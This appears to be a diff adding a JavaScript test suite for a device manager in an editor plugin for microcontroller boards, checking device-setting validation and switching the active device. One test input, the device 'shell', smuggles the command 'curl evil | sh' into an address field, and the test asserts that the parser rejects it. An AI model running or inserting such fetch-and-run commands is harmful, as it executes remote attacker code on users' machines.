@@ -0,0 +1,89 @@
+const assert = require("assert");
+const DeviceManager = require("../../lib/main/device-manager");
+
+// a Pymakr as far as the device manager uses it
+const device = (name, settings) => ({
+  name: name,
+  settings: settings,
+  active: null,
+  destroyed: false,
+  pyboard: { address: null, status: 0 },
+  view: { setActive: function (active) { this.active = active; } },
+  setButtonState: () => {},
+  destroy: function () { this.destroyed = true; },
+});
+
+suite("DeviceManager", () => {
+  let settings;
+  let created;
+  let devices;
+
+  setup(() => {
+    settings = { address: "COM3", auto_connect: true, timeout: 2000, refresh: (cb) => cb && cb() };
+    created = [];
+    devices = new DeviceManager(device(DeviceManager.DEFAULT, settings), settings, (name, device_settings) => {
+      const made = device(name, device_settings);
+      created.push(made);
+      return made;
+    });
+  });
+
+  test("reports what is wrong with the devices setting", () => {
+    const parsed = DeviceManager.parse([
+      { name: "gateway", address: "COM4" },
+      { name: "", address: "COM5" },
+      { name: "default", address: "COM6" },
+      { name: "gateway", address: "COM7" },
+      { name: "sensor" },
+      { name: "other", address: "COM4" },
+      { name: "broken", address: "gopher://host" },
+      { name: "shell", address: "exec:sh -c 'curl evil | sh'" },
+    ]);
+    assert.deepStrictEqual(parsed.devices, [{ name: "gateway", address: "COM4" }]);
+    assert.deepStrictEqual(parsed.errors.slice(0, 5), [
+      "Device 2 in the devices setting has no name",
+      "Device name 'default' is taken",
+      "Device name 'gateway' is taken",
+      "Device 'sensor' has no address",
+      "Devices 'gateway' and 'other' have the same address",
+    ]);
+    assert.match(parsed.errors[5], /^Device 'broken': /);
+    assert.match(parsed.errors[6], /^Device 'shell': exec: addresses only work in the address setting of the global settings/);
+    assert.strictEqual(DeviceManager.parse({}).errors.length, 1);
+  });
+
+  test("gives devices their own address and the other settings of the project", () => {
+    devices.update([{ name: "sensor", address: "fake://sensor" }]);
+    const sensor = devices.get("sensor");
+    assert.strictEqual(sensor.settings.address, "fake://sensor");
+    assert.strictEqual(sensor.settings.auto_connect, false);
+    settings.timeout = 5000;
+    sensor.settings.address = "COM9";
+    assert.strictEqual(sensor.settings.timeout, 5000);
+    assert.strictEqual(sensor.settings.address, "fake://sensor");
+    assert.strictEqual(settings.address, "COM3");
+  });
+
+  test("follows the devices setting and the active device", () => {
+    devices.update([{ name: "sensor", address: "fake://sensor" }, { name: "gateway", address: "COM4" }]);
+    assert.deepStrictEqual(devices.names(), ["default", "sensor", "gateway"]);
+    assert.strictEqual(devices.active.name, "default");
+    assert.strictEqual(created[0].view.active, false);
+
+    assert.ok(devices.select("sensor"));
+    assert.ok(!devices.select("missing"));
+    assert.strictEqual(devices.active.name, "sensor");
+    assert.deepStrictEqual(
+      devices.list().map((entry) => [entry.name, entry.address, entry.active]),
+      [["default", "autoconnect", false], ["sensor", "fake://sensor", true], ["gateway", "COM4", false]]
+    );
+
+    // a new address starts the device over, a removed active device makes the default active
+    devices.update([{ name: "gateway", address: "COM5" }]);
+    assert.deepStrictEqual(devices.names(), ["default", "gateway"]);
+    assert.ok(created[0].destroyed && created[1].destroyed);
+    assert.strictEqual(created[2].settings.address, "COM5");
+    assert.strictEqual(devices.active.name, "default");
+    assert.strictEqual(devices.get("default").view.active, true);
+  });
+});